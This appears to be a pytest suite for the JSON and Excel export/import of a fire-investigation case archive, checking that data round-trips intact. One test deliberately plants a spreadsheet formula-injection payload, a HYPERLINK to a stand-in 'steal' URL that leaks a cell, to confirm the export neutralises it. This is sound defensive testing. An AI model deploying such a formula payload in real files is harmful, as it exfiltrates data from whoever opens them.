"""Export from one archive, import into another: every fact arrives unchanged, in JSON and in Excel."""

from __future__ import annotations

import datetime as dt
import io
import json
import os
from decimal import Decimal

import openpyxl
import pytest

from fireinvest.exchange import FORMAT_TAG, export_cases_file, import_cases_file, write_case_records
from fireinvest.services.case_query import CaseFilter
from fireinvest.services.changes import Register
from fireinvest.services.front_door import Workstation
from tests.exchange.conftest import snapshot


@pytest.mark.parametrize("suffix", [".json", ".xlsx"])
def test_every_fact_survives_export_and_import(db, workstation, second_db, actor, varied_cases, tmp_path, suffix):
    path = tmp_path / f"cases{suffix}"
    assert export_cases_file(workstation, path, CaseFilter()) == len(varied_cases)
    outcome = import_cases_file(Workstation(second_db, actor), path)
    report = outcome.value
    assert {Register.CASES, Register.PEOPLE} <= outcome.changes.registers
    assert (report.imported, report.numbers_kept, report.numbers_assigned) == (5, 5, 0)
    assert report.investigators_added == ("张建国", "李明")

    source, target = snapshot(db), snapshot(second_db)
    assert sorted(target) == sorted(varied_cases)
    for number in varied_cases:
        assert target[number] == source[number], number
    big = target[varied_cases[1]][0]
    assert big.direct_property_loss == Decimal("12345678901.23")
    assert big.direct_economic_loss == Decimal("12345678999.99")
    assert big.parties[0].name == "某某有限公司(南京)"
    assert big.parties[0].contact == "025-88888888, 13900000000"
    assert target[varied_cases[2]][0].alarm_time == dt.datetime(2025, 12, 31, 16, 30, 15, tzinfo=dt.UTC)


def test_json_holds_exact_strings_and_local_offsets(workstation, varied_cases, tmp_path):
    path = tmp_path / "cases.json"
    export_cases_file(workstation, path)
    text = path.read_text(encoding="utf-8")
    assert '"direct_property_loss_yuan": "12345678901.23"' in text
    assert "某某有限公司" in text  # UTF-8, not \\u escapes
    document = json.loads(text)
    assert document["format"] == FORMAT_TAG
    by_number = {case["case_number"]: case for case in document["cases"]}
    midnight = by_number[varied_cases[2]]
    assert midnight["alarm_time"] == "2026-01-01T00:30:15+08:00"
    assert midnight["ignition_time"] is None
    simple = by_number[varied_cases[3]]
    assert (simple["procedure"], simple["extinguished_time"], simple["fire_grade"]) == ("simple", None, "轻微")
    assert simple["burned_area_m2"] == "0.50"
    first = by_number[varied_cases[0]]
    assert first["investigators"] == [{"name": "张建国", "lead": True}, {"name": "李明", "lead": False}]
    assert first["status"] == "registered"
    assert by_number[varied_cases[1]]["fire_grade"] == "特别重大"  # 123 亿元
    assert all(not isinstance(v, float) for case in document["cases"] for v in case.values())


def test_excel_sheet_is_readable_for_people(workstation, varied_cases, tmp_path):
    path = tmp_path / "cases.xlsx"
    export_cases_file(workstation, path)
    workbook = openpyxl.load_workbook(path, read_only=True)
    rows = list(workbook["案件"].iter_rows(values_only=True))
    workbook.close()
    header = rows[0]
    assert header[:8] == ("案件编号", "接警时间", "扑灭时间", "起火地址", "辖区", "场所类型", "单位或住户", "调查程序")
    assert "直接财产损失(元)" in header and "当事人" in header and "火灾等级" in header
    row = dict(zip(header, next(r for r in rows[1:] if r[0] == varied_cases[1])))
    assert row["接警时间"] == "2026-03-01 10:05"
    assert row["直接财产损失(元)"] == pytest.approx(12345678901.23)  # a number Excel can sum
    assert row["调查程序"] == "一般程序"
    assert row["当事人"].startswith(
        "某某有限公司(南京)(责任单位,91320100MA1XXXXX0X,025-88888888, 13900000000)；赵某(受害人,,)"
    )
    assert row["主办调查人员"] == "李明" and row["协办调查人员"] == "张建国"


def test_records_for_the_command_line_follow_the_filter(workstation, varied_cases):
    stream = io.StringIO()
    assert write_case_records(workstation, CaseFilter(year=2019), stream) == 1
    document = json.loads(stream.getvalue())
    records = document["cases"]
    assert document["format"] == FORMAT_TAG
    assert [r["case_number"] for r in records] == ["旧系统-2019-117"]
    assert records[0]["fire_grade"]


def test_export_can_be_cancelled_and_leaves_no_file(workstation, varied_cases, tmp_path):
    from fireinvest.exchange import OperationCancelled

    path = tmp_path / "cases.json"
    seen = []

    def progress(done, total):
        seen.append((done, total))
        return done < 2

    with pytest.raises(OperationCancelled):
        export_cases_file(workstation, path, progress=progress)
    assert not path.exists()
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]
    assert seen[0] == (0, 5)


def test_export_problems_are_messages(workstation, varied_cases, tmp_path):
    from fireinvest.errors import FireInvestError

    with pytest.raises(FireInvestError, match="无法写入.*：文件夹不存在"):
        export_cases_file(workstation, tmp_path / "no-such-folder" / "cases.json")
    with pytest.raises(FireInvestError, match="不支持的文件类型"):
        export_cases_file(workstation, tmp_path / "cases.csv")
    export_cases_file(workstation, tmp_path / "cases.xlsx")
    umask = os.umask(0)
    os.umask(umask)
    # The same permissions as any file the user saves (not the owner-only mode of a temporary file).
    assert (tmp_path / "cases.xlsx").stat().st_mode & 0o777 == 0o666 & ~umask


def test_no_exported_cell_is_a_formula_and_text_comes_back_as_typed(db, workstation, second_db, actor, tmp_path):
    """A summary beginning with "=" is text in the file (no formula runs on whoever opens it) and reads back whole."""
    from fireinvest.services import cases
    from tests.factories import make_draft

    hostile = '=HYPERLINK("http://example.invalid/steal?"&A2,"点击查看")'
    created = cases.create_case(workstation, make_draft(summary=hostile, unit_name="=1+2", cause_finding="+SUM(1)"))
    path = tmp_path / "cases.xlsx"
    export_cases_file(workstation, path)
    sheet = openpyxl.load_workbook(path)["案件"]
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert "f" not in kinds and kinds <= {"s", "n"}
    import_cases_file(Workstation(second_db, actor), path)
    ((facts, _staff, _grade),) = snapshot(second_db).values()
    assert (facts.summary, facts.unit_name, facts.cause_finding) == (hostile, "=1+2", "+SUM(1)")
    assert created.value.case_number in {row[0].value for row in sheet.iter_rows(min_row=2)}


def test_a_stored_text_excel_cannot_hold_stops_the_export_naming_the_case(db, workstation, tmp_path):
    """Text stored before the text rule refused control characters: the .xlsx export names the case and the field,
    writes no file and shows no traceback; JSON still carries it."""
    from sqlalchemy import text

    from fireinvest.errors import FireInvestError
    from fireinvest.services import cases
    from tests.factories import make_draft

    created = cases.create_case(workstation, make_draft()).value
    with db.writing() as session:
        session.execute(text("UPDATE fire_cases SET summary = :s"), {"s": "第一行\v第二行"})
    with pytest.raises(FireInvestError, match=f"案件 {created.case_number} 的“简要案情”含有 Excel 不能保存的控制字符"):
        export_cases_file(workstation, tmp_path / "cases.xlsx")
    assert not [p for p in tmp_path.iterdir() if "cases" in p.name]  # neither the file nor its temporary
    export_cases_file(workstation, tmp_path / "cases.json")
    assert "第一行\\u000b第二行" in (tmp_path / "cases.json").read_text("utf-8")


def test_an_xlsx_round_trip_brings_a_closed_case_back_as_a_json_one_does(db, workstation, second_db, actor, tmp_path):
    """Events, evidence, records, reviews and the loop travel in the sheet 案件历史: the case comes back 已结案 with
    its history, the same record as it left, not 已登记 with overdue deadlines."""
    from fireinvest.rules.workflow import EventType
    from tests.documents.case_builder import add_review_and_loop, build_case
    from tests.factories import local, take_step

    built = build_case(workstation)
    add_review_and_loop(workstation, built.id)
    take_step(db, actor, built.id, EventType.CLOSED, local(2026, 6, 1))
    export_cases_file(workstation, tmp_path / "cases.xlsx")
    assert openpyxl.load_workbook(tmp_path / "cases.xlsx").sheetnames == ["案件", "案件历史"]
    receiving = Workstation(second_db, actor)
    import_cases_file(receiving, tmp_path / "cases.xlsx")

    def exchange_document(station) -> dict:
        stream = io.StringIO()
        write_case_records(station, None, stream)
        return json.loads(stream.getvalue())

    sent, received = exchange_document(workstation), exchange_document(receiving)
    assert received == sent
    (case,) = received["cases"]
    assert case["status"] == "closed" and case["events"] and case["evidence"] and case["interviews"]
    assert case["reviews"] and case["loop"]
